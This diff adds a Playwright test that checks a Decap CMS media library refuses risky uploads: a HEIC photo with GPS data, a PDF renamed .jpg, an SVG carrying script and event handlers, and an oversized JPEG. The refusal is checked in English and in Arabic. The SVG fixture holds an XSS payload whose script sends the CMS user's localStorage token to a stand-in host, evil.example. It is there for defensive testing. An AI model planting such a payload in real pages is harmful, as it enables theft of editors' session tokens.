@@ -1,0 +1,134 @@
+// Uploads the site cannot clean and serve are refused at upload (issue 46, docs/images.md "Uploads"): in the real
+// Decap CMS of out/admin/ against decap-server on a copy of the project, an iPhone photo (HEIC, with GPS), a PDF
+// renamed .jpg, an SVG with <script>, onload and foreignObject, and a 12 MB JPEG are each refused in the media
+// library with the message that says what to do (cms/upload-check.js), in English and, with the interface in
+// Arabic (<html lang="ar">), in Arabic; none reaches the repository. A plain photo and a plain SVG still go in.
+import { readdirSync, rmSync } from "node:fs";
+import { join } from "node:path";
+import sharp from "sharp";
+import type { Page } from "@playwright/test";
+import { copyProject } from "../scripts/lib/copy-project.mjs";
+import { uploadMessage } from "../cms/upload-check.js";
+import { type Backend, jpeg, signIn, startBackend } from "./cms-support";
+import { expect, test } from "./support";
+
+test.describe.configure({ mode: "serial" });
+
+const root = process.cwd();
+let dir = "";
+let backend: Backend | undefined;
+
+test.beforeAll(async () => {
+  test.setTimeout(120_000);
+  dir = copyProject(root, "mts-cms-uploads-");
+  backend = await startBackend(dir, "fs");
+});
+
+test.afterAll(async () => {
+  await backend?.stop();
+  if (dir) rmSync(dir, { recursive: true, force: true });
+});
+
+/** An iPhone photo's first bytes (an ISO media file of brand heic), with a GPS position and the camera after. */
+const heic = Buffer.concat([
+  Buffer.from("\0\0\0\x18ftypheic\0\0\0\0mif1heic", "latin1"),
+  Buffer.from("Exif\0\0MM\0*Apple iPhone 15 Pro GPS 21 25 N 39 49 E", "latin1"),
+]);
+const pdf = Buffer.from("%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");
+const svgWithScript = Buffer.from(
+  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)" viewBox="0 0 10 10">' +
+    "<script>fetch('https://evil.example/?t='+localStorage.getItem('decap-cms-user'))</script>" +
+    '<foreignObject width="10" height="10"><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject></svg>',
+);
+const plainSvg = Buffer.from(
+  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect width="10" height="10" fill="#0f766e"/></svg>',
+);
+/** A real 12 MB JPEG: noise at full quality. */
+const bigJpeg = () =>
+  sharp({
+    create: {
+      width: 3000,
+      height: 2600,
+      channels: 3,
+      background: "#808080",
+      noise: { type: "gaussian", mean: 128, sigma: 90 },
+    },
+  })
+    .jpeg({ quality: 100, chromaSubsampling: "4:4:4" })
+    .toBuffer();
+
+const uploads = () =>
+  readdirSync(join(dir, "public/images/uploads"), { withFileTypes: true }).map((f) => f.name);
+const uploadsOrNone = () => {
+  try {
+    return uploads();
+  } catch {
+    return [];
+  }
+};
+
+/** Chooses `name` in the media library of the article's cover (already open), as an editor does. */
+async function choose(page: Page, name: string, buffer: Buffer, mimeType: string) {
+  await page.getByRole("dialog").locator("input[type=file]").setInputFiles({ name, mimeType, buffer });
+}
+
+async function openMediaLibrary(page: Page) {
+  await signIn(page, backend!.port);
+  await page.goto("/admin/#/collections/articles/new", { waitUntil: "load" });
+  await page.getByRole("button", { name: "Choose an image" }).click();
+}
+
+const cases = async () =>
+  [
+    { name: "IMG_0042.HEIC", buffer: heic, mime: "image/heic", key: "heic" },
+    { name: "IMG_0043.jpg", buffer: heic, mime: "image/jpeg", key: "heic" },
+    { name: "brochure.jpg", buffer: pdf, mime: "image/jpeg", key: "pdf" },
+    {
+      name: "logo.svg",
+      buffer: svgWithScript,
+      mime: "image/svg+xml",
+      key: "svg",
+      what: "script, foreignObject, event handlers",
+    },
+    { name: "office.jpg", buffer: await bigJpeg(), mime: "image/jpeg", key: "bytes" },
+  ] as const;
+
+for (const lang of ["en", "ar"] as const) {
+  test(`a HEIC, a PDF named .jpg, an SVG with script and a 12 MB JPEG are refused at upload (${lang})`, async ({
+    page,
+  }) => {
+    test.setTimeout(120_000);
+    await openMediaLibrary(page);
+    // The interface's language (the Arabic interface sets it; here set by hand to see the Arabic words).
+    await page.evaluate((l) => (document.documentElement.lang = l), lang);
+    for (const c of await cases()) {
+      if (c.key === "bytes") expect(c.buffer.length).toBeGreaterThan(11e6);
+      await choose(page, c.name, c.buffer, c.mime);
+      const refusal = page.getByRole("alertdialog");
+      await expect(refusal).toBeVisible();
+      const size = c.key === "bytes" ? { size: (c.buffer.length / 1e6).toFixed(1), limit: 8 } : {};
+      const text = uploadMessage(
+        { key: c.key, name: c.name, what: "what" in c ? c.what : "", ...size },
+        lang,
+      );
+      await expect(refusal).toContainText(text);
+      if (c.key === "heic")
+        await expect(refusal).toContainText(lang === "ar" ? "«الأكثر توافقًا»" : "“Most Compatible”");
+      await expect(refusal).toHaveAttribute("dir", lang === "ar" ? "rtl" : "ltr");
+      await refusal.getByRole("button", { name: lang === "ar" ? "حسنًا" : "OK" }).click();
+      await expect(refusal).toBeHidden();
+    }
+    // Nothing was uploaded.
+    expect(uploadsOrNone()).toEqual([]);
+  });
+}
+
+test("a plain photo and a plain SVG are uploaded as before", async ({ page }) => {
+  await openMediaLibrary(page);
+  await choose(page, "plain.svg", plainSvg, "image/svg+xml");
+  await choose(page, "cover.jpg", await jpeg(page, "#0f766e", 600), "image/jpeg");
+  await expect(page.getByRole("alertdialog")).toHaveCount(0);
+  // Both reach the media library (the guard passed the editor's choice on to Decap).
+  for (const name of ["plain.svg", "cover.jpg"])
+    await expect(page.getByRole("dialog").getByText(name, { exact: true })).toBeVisible();
+});
